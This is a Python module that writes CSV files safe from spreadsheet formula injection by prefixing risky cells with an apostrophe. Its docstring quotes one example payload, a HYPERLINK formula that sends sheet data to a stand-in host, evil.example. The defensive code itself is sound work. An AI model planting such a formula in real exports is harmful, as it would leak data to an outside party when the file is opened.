"""CSV for spreadsheets: a cell a spreadsheet would run as a formula is written as text.

Spreadsheets (Excel, LibreOffice, Google Sheets) evaluate a cell that begins with ``=``, ``+``,
``-`` or ``@`` (and some a tab, a carriage return or another control character before one) as
a formula: a job named ``=HYPERLINK("http://evil.example/?"&A1,"x")`` in an invoice would send
the sheet's data away when an operator opens it. :func:`safe_cell` prefixes such a cell with a
``'`` (shown as text, the ``'`` itself hidden), as OWASP recommends; numbers (``-12.50``, a
refund) stay numbers. :func:`writer` is :func:`csv.writer` that does it for every cell: every
CSV the platform exports is written through it.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

#: What a formula may start with: = + - @ and every control character (C0, DEL).
_RISKY_START = re.compile(r"[=+\-@\x00-\x1f\x7f]")
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it verbatim: text that starts like a formula (or with a
    control character) gets a leading ``'``; numbers and other text are unchanged."""
    if not isinstance(value, str) or not value or not _RISKY_START.match(value):
        return value
    if _NUMBER.fullmatch(value):
        return value  # a signed number, not a formula
    return "'" + value


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class SafeWriter:
    """A :func:`csv.writer` whose cells go through :func:`safe_cell`."""

    def __init__(self, inner: _Writer) -> None:
        self._inner = inner

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._inner.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(f: Any, **options: Any) -> SafeWriter:
    """``csv.writer(f, **options)`` with every cell made safe for spreadsheets."""
    return SafeWriter(csv.writer(f, **options))
